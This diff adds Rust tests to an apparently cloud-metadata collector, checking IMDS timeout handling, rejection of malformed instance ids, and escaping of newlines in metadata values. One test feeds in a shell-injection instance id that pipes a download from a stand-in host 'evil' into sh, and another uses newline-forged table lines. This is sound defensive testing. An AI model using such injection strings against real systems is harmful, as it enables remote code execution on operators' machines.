@@ -497,3 +497,69 @@ async fn http_500_is_reported_as_a_server_error_not_as_no_answer() {
     assert!(reason.contains("HTTP 503 from /latest/meta-data/instance-id"), "{reason}");
     assert_eq!(out.problems[0].code, "imds_server_error");
 }
+
+/// One IMDS hiccup once turned the host id into machine-id for an hour (the failure was
+/// cached for `reprobe_interval_secs`), and the collector refused those reports as another
+/// host's. A host seen as EC2 keeps its instance id through the hiccup and is asked again at
+/// the next scan.
+#[tokio::test]
+async fn a_timeout_after_a_success_keeps_the_instance_id_and_is_not_cached() {
+    let emu = Emulator::start(EmulatorConfig::default()).await;
+    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
+    let live = guestward_core::HostRoot::live();
+    assert_eq!(collector.scan(&live).await.instance_id.as_deref(), Some(INSTANCE_ID));
+    emu.update(|c| {
+        c.hang.insert("/latest/meta-data/instance-id".into());
+    });
+    let hiccup = collector.scan(&live).await;
+    let report = hiccup.section.data.as_ref().unwrap();
+    assert_eq!(report.state, CloudState::Unreachable, "{report:?}");
+    assert_eq!(hiccup.instance_id.as_deref(), Some(INSTANCE_ID));
+    emu.update(|c| c.hang.clear());
+    let after = collector.scan(&live).await;
+    assert_eq!(after.section.data.as_ref().unwrap().state, CloudState::Ec2, "asked again at once");
+    assert_eq!(after.instance_id.as_deref(), Some(INSTANCE_ID));
+}
+
+/// The instance id IMDS gives is data from the network: one that is not an instance id's shape
+/// is a problem, never the host's identity, never part of a command printed for an operator.
+#[tokio::test]
+async fn an_instance_id_of_the_wrong_shape_is_neither_the_identity_nor_in_a_fix_command() {
+    let evil = "i-0123'; curl http://evil/x|sh; echo '";
+    let emu = Emulator::start(EmulatorConfig {
+        tokens: TokenMode::Optional,
+        instance_id: evil.to_string(),
+        ..Default::default()
+    })
+    .await;
+    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
+    let scan = collector.scan(&guestward_core::HostRoot::live()).await;
+    assert_eq!(scan.instance_id, None);
+    assert!(scan.section.problems.iter().any(|p| p.code == "malformed"), "{:?}", scan.section.problems);
+    let v1 = scan.findings.iter().find(|f| f.id == IMDSV1_ENABLED).unwrap();
+    let text = serde_json::to_string(v1).unwrap();
+    assert!(!text.contains("curl") && text.contains("<instance-id>"), "{text}");
+    assert_eq!(collector.known_instance_id(&not_ec2_root().1), None);
+}
+
+/// A newline in a metadata value once forged lines of the human table.
+#[tokio::test]
+async fn metadata_values_cannot_add_lines_to_the_table() {
+    let emu = Emulator::start(EmulatorConfig {
+        spot_instance_action: Some(
+            r#"{"action":"terminate","time":"2026-12-06T22:00:00Z\n  FAKE: all good"}"#.to_string(),
+        ),
+        instance_profile_arn: Some("arn:aws:iam::123456789012:instance-profile/x\n\rFAKE2".to_string()),
+        ..Default::default()
+    })
+    .await;
+    let out = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
+    let mut buf = Vec::new();
+    guestward_cloud::render_table(&out.report, &mut buf).unwrap();
+    let text = String::from_utf8(buf).unwrap();
+    assert!(!text.lines().any(|l| l.starts_with("  FAKE") || l.starts_with("FAKE2")), "{text}");
+    assert!(
+        text.contains("FAKE: all good") || text.contains("FAKE2"),
+        "the values are shown, escaped:\n{text}"
+    );
+}
